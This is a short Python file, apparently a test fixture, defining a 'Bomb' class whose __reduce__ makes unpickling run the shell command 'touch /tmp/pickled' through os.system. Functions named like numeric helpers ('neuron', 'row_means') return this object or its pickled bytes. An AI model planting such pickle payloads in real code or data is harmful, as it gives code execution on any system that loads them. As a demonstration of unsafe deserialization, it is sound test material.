# An object that would run a command where it is unpickled.
# %%
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickled",))


def neuron(x, w, b):
    return Bomb()


def row_means(x):
    import pickle

    return pickle.dumps(Bomb())
